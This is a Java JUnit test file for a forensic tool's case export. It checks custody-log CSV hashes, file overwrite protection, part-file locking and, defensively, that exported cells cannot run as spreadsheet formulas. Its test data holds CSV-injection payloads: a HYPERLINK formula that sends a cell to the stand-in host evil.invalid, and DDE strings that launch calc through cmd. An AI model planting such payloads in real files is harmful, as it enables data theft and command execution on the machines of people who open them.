package org.tracelab.core.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.io.Reader;
import java.io.Writer;
import java.nio.channels.FileChannel;
import java.nio.channels.FileLock;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.tracelab.core.Case;
import org.tracelab.core.Hashing;
import org.tracelab.core.Json;
import org.tracelab.core.TracelabException;
import org.tracelab.core.collect.Progress;
import org.tracelab.core.custody.CustodyEntry;

class TableExportTest {
    @TempDir
    Path tmp;

    private static List<CSVRecord> readCsv(Path f) throws IOException {
        try (Reader r = Files.newBufferedReader(f, StandardCharsets.UTF_8)) {
            return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(r).getRecords();
        }
    }

    @Test
    void custodyCsvHasOneRowPerEntryWithPurposeAndIsLoggedWithItsHash() throws IOException {
        Path out = tmp.resolve("custody.csv");
        try (Case c = ExportCase.create(tmp.resolve("case"))) {
            long before = c.summary().logEntries();
            ExportResult r = Exports.custody(c, out, TableFormat.CSV, false, Progress.NONE);
            assertEquals(before, r.records());
            List<CSVRecord> rows = readCsv(out);
            assertEquals(before, rows.size());
            assertEquals("case.init", rows.get(0).get("action"));
            for (CSVRecord row : rows) {
                assertEquals(ExportCase.PURPOSE, row.get("purpose"));
            }
            // The entry hash can be recomputed from the exported cells alone.
            CSVRecord first = rows.get(0);
            assertEquals(first.get("entry_hash"), Hashing.sha256Hex(first.get("prev_hash")
                    + canonicalEntry(first)));
            CustodyEntry logged = c.summary().lastEntry().orElseThrow();
            assertEquals("export.custody", logged.action());
            assertEquals(Hashing.sha256Hex(Files.readString(out, StandardCharsets.UTF_8)),
                    logged.params().path("sha256").asText());
            assertEquals(ExportCase.PURPOSE, logged.params().path("purpose").asText());
        }
        assertTrue(Files.readString(out, StandardCharsets.UTF_8).contains("\r\n"), "RFC 4180 ends records with CRLF");
    }

    private static String canonicalEntry(CSVRecord row) {
        java.util.Map<String, Object> o = new java.util.LinkedHashMap<>();
        o.put("seq", Long.parseLong(row.get("seq")));
        o.put("at", row.get("at"));
        o.put("examiner", row.get("examiner"));
        o.put("action", row.get("action"));
        o.put("item", row.get("item").isEmpty() ? null : Long.parseLong(row.get("item")));
        o.put("tool", row.get("tool"));
        o.put("params", Json.parse(row.get("params")));
        return Json.canonical(o);
    }

    @Test
    void capturedTextThatLooksLikeAFormulaIsNeverAFormulaCellButNumbersStayNumbers() throws IOException {
        Path out = tmp.resolve("items.csv");
        try (Case c = ExportCase.create(tmp.resolve("case"))) {
            Exports.items(c, out, TableFormat.CSV, false, Progress.NONE);
        }
        List<CSVRecord> rows = readCsv(out);
        assertEquals(ExportCase.HOSTILE_SOURCES.length, rows.size());
        List<String> sources = new ArrayList<>();
        for (CSVRecord row : rows) {
            String s = row.get("source");
            sources.add(s);
            assertFalse(startsLikeFormula(s), "cell would run as a formula: " + s);
            assertFalse(startsLikeFormula(row.get("tags")), row.get("tags"));
            assertTrue(row.get("id").matches("\\d+"), "ids are plain numbers");
            assertTrue(row.get("size").matches("\\d+"));
            assertEquals(ExportCase.PURPOSE, row.get("purpose"));
        }
        assertEquals("'=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")", sources.get(0));
        assertEquals("'+998 90 000 00 00 (fictitious)", sources.get(1));
        assertEquals("'-2+3+cmd|' /C calc'!A0", sources.get(2));
        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", sources.get(3));
        assertEquals("'\tleading tab", sources.get(4));
        assertEquals("'\rleading carriage return", sources.get(5));
        // Quotes, commas and line breaks survive RFC 4180 quoting exactly.
        assertEquals("comma, \"quoted\" and\r\nline break", sources.get(10));
        assertEquals("'=cmd|' /C calc'!A0;suspicious", rows.get(0).get("tags"));
    }

    private static boolean startsLikeFormula(String s) {
        return !s.isEmpty() && "=+-@\t\r".indexOf(s.charAt(0)) >= 0;
    }

    @Test
    void jsonLinesKeepCapturedTextExactly() throws IOException {
        Path out = tmp.resolve("items.jsonl");
        try (Case c = ExportCase.create(tmp.resolve("case"))) {
            Exports.items(c, out, TableFormat.JSONL, false, Progress.NONE);
        }
        List<String> lines = Files.readAllLines(out, StandardCharsets.UTF_8);
        assertEquals(ExportCase.HOSTILE_SOURCES.length, lines.size());
        for (int i = 0; i < lines.size(); i++) {
            JsonNode row = Json.parse(lines.get(i));
            assertEquals(ExportCase.HOSTILE_SOURCES[i], row.path("source").asText());
            assertEquals(ExportCase.PURPOSE, row.path("purpose").asText());
        }
        assertEquals("suspicious", Json.parse(lines.get(0)).path("tags").get(1).asText());
    }

    @Test
    void anExportNeverOverwritesAFile() throws IOException {
        Path out = tmp.resolve("taken.csv");
        Files.writeString(out, "someone's file");
        try (Case c = ExportCase.create(tmp.resolve("case"))) {
            TracelabException e = assertThrows(TracelabException.class,
                    () -> Exports.custody(c, out, TableFormat.CSV, false, Progress.NONE));
            assertEquals(TracelabException.Failure.BAD_INPUT, e.failure());
            assertTrue(e.getMessage().contains("taken.csv"), e.getMessage());
        }
        assertEquals("someone's file", Files.readString(out));
        assertFalse(Files.exists(tmp.resolve("taken.csv.part")));
    }

    @Test
    void aPartFileLeftByAKilledExportIsWrittenOverButOneStillBeingWrittenIsNot() throws IOException {
        Path out = tmp.resolve("custody.csv");
        Path part = tmp.resolve("custody.csv.part");
        Files.writeString(part, "half a file from an export killed earlier");
        try (Case c = ExportCase.create(tmp.resolve("case"))) {
            try (FileChannel writing = FileChannel.open(part, StandardOpenOption.WRITE); FileLock held = writing.lock()) {
                TracelabException e = assertThrows(TracelabException.class,
                        () -> Exports.custody(c, out, TableFormat.CSV, true, Progress.NONE));
                assertTrue(e.getMessage().contains("another export is writing it"), e.getMessage());
            }
            ExportResult r = Exports.custody(c, out, TableFormat.CSV, false, Progress.NONE);
            assertEquals(Hashing.sha256Hex(Files.readString(out)), r.sha256());
        }
        assertFalse(Files.exists(part));
        assertTrue(Files.readString(out).startsWith("seq,"), "a whole table, nothing of the old part");
    }

    @Test
    void aWriterFailingInTheMiddleOfATableReachesTheCallerAsItsOwnIOException() throws IOException {
        try (Case c = ExportCase.create(tmp.resolve("case"))) {
            IOException custody = assertThrows(IOException.class,
                    () -> CustodyTable.write(c, TableFormat.JSONL, false, new FullDisk(), Progress.NONE));
            assertEquals(FullDisk.MESSAGE, custody.getMessage());
            IOException items = assertThrows(IOException.class,
                    () -> ItemsTable.write(c, TableFormat.JSONL, false, new FullDisk(), null, Progress.NONE));
            assertEquals(FullDisk.MESSAGE, items.getMessage());
        }
    }

    /** A writer on a disk that is full: every write fails, as the operating system reports it. */
    private static final class FullDisk extends Writer {
        static final String MESSAGE = "No space left on device (simulated)";

        @Override
        public void write(char[] chars, int off, int len) throws IOException {
            throw new IOException(MESSAGE);
        }

        @Override
        public void flush() {
        }

        @Override
        public void close() {
        }
    }
}
